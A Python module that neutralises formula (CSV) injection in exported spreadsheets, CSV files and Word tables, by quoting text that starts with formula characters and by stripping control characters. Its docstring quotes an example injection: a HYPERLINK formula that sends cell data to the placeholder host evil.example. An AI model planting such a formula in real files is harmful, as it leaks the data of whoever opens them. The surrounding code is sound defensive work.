"""Cells for the spreadsheets, CSV files and Word tables the platform writes.

Text a citizen or a unit typed (an address, a description, a task title) must never become a formula when
the office opens the file (CSV injection: ``=HYPERLINK("http://evil.example/?x="&A1,"click")``), nor break
the XML inside an XLSX or a DOCX. Following the OWASP guidance, text starting with ``= + - @``, a tab or a
carriage return (leading spaces ignored, as some spreadsheets trim them) is prefixed with a single quote, in
CSV and in XLSX alike; in XLSX every text is also a string cell, never a formula. The quote stays in the value
so a program that reads the workbook and writes a CSV from it (a common office step) does not re-arm the
formula. Real numbers, dates and booleans stay what they are: a figure is a figure; a "-5" a person typed is
text and is neutralised.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell

from wenming.common.input import strip_controls

# The content types of the files the exports and packs send.
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN = (bool, int, float, Decimal, dt.date, dt.datetime, dt.time)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES) or text.lstrip(" ").startswith(FORMULA_PREFIXES)


def text_cell(value) -> str:
    """Any value as text safe in XML (no control characters); None as an empty string."""
    return "" if value is None else strip_controls(str(value))


def inert_text(value) -> str:
    """Any value as text without control characters, quoted with ``'`` when a spreadsheet would read it as a
    formula."""
    text = text_cell(value)
    return f"'{text}" if is_formula_like(text) else text


def csv_cell(value):
    """A value for ``csv.writer``: numbers and dates as they are, text as ``inert_text``."""
    if value is None:
        return ""
    if isinstance(value, _PLAIN):
        return value
    return inert_text(value)


def csv_row(values: Iterable) -> list:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet, values: Iterable) -> list:
    """Cells for ``sheet.append`` (a write-only or an ordinary sheet): numbers and dates typed as they are, text
    as ``inert_text`` and always a string cell (openpyxl would make any text starting with "=" a formula)."""
    cells = []
    for value in values:
        if value is None or isinstance(value, _PLAIN):
            cells.append(WriteOnlyCell(sheet, value=value))
            continue
        cell = WriteOnlyCell(sheet, value=inert_text(value))
        cell.data_type = "s"
        cells.append(cell)
    return cells
